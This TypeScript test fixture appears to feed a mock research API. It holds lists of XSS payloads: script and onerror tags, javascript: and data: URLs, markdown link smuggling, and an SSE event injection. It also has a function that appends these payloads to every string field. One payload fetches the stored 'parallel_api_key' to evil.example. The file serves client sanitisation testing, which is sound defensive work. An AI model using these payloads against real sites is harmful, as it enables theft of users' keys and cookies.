/**
 * Hostile strings for the `xss` scenario. Research output comes from arbitrary web pages, so the
 * mock can put these in every string field a client might render; the JSON stays valid (every
 * payload goes through JSON.stringify) and each SSE `data:` stays one line.
 */
import type { Rng } from './rng.js';

/** Markup and script payloads for text fields. */
export const XSS_TEXTS: readonly string[] = [
  '<img src=x onerror=alert(1)>',
  '"><script>alert(document.cookie)</script>',
  "'><svg onload=alert(1)>",
  '<iframe src="javascript:alert(1)"></iframe>',
  '</div><img src=x onerror="fetch(\'https://evil.example/?k=\'+localStorage.getItem(\'parallel_api_key\'))">',
  '{{constructor.constructor(\'alert(1)\')()}}',
  '<a href="javascript:alert(1)">click</a>',
  '<style>*{display:none}</style>',
  '\u202Egnp.exe',
  'line one\n\nevent: done\ndata: [DONE]\n\n',
];

/** URLs no client may turn into a live link or fetch. */
export const XSS_URLS: readonly string[] = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(document.domain)',
  ' javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'vbscript:msgbox(1)',
  'https://example.com/"><script>alert(1)</script>',
  'https://example.com/search?q=<img src=x onerror=alert(1)>',
];

/** Markdown that tries to smuggle script or script links through a markdown renderer. */
export const XSS_MARKDOWN: readonly string[] = [
  '[click me](javascript:alert(1))',
  '[harmless](JAVASCRIPT:alert(document.cookie))',
  '![tracking pixel](javascript:alert(1))',
  '[data link](data:text/html,<script>alert(1)</script>)',
  '<javascript:alert(1)>',
  '<script>alert("markdown")</script>',
  '<img src=x onerror=alert(2)>',
  '[ref][evil]\n\n[evil]: javascript:alert(1)',
];

/** `base` with a hostile payload appended (so the text stays recognisable in tests). */
export function hostileText(rng: Rng, base: string): string {
  return `${base} ${rng.pick(XSS_TEXTS)}`;
}

/** A hostile URL. */
export function hostileUrl(rng: Rng): string {
  return rng.pick(XSS_URLS);
}

/**
 * A deep copy of `value` with every string made hostile: values under URL-like keys become hostile
 * URLs, other strings get a payload appended. Keys in `keep` (structural fields such as `type`)
 * and object keys themselves are left alone so the result stays wire-compatible.
 */
export function poisonStrings<T>(value: T, rng: Rng, keep: ReadonlySet<string>, key = ''): T {
  if (typeof value === 'string') {
    return (/(^|_)(url|urls|website|link|href|source_url)$/i.test(key) ? hostileUrl(rng) : hostileText(rng, value)) as T;
  }
  if (Array.isArray(value)) return value.map((item) => poisonStrings(item, rng, keep, key)) as T;
  if (typeof value === 'object' && value !== null) {
    const out: Record<string, unknown> = {};
    for (const [k, v] of Object.entries(value)) out[k] = keep.has(k) ? v : poisonStrings(v, rng, keep, k);
    return out as T;
  }
  return value;
}

/** A markdown block containing every hostile markdown construct. */
export function hostileMarkdownBlock(): string {
  return ['## Links found during research', '', ...XSS_MARKDOWN.map((item) => `- ${item}`), ''].join('\n');
}
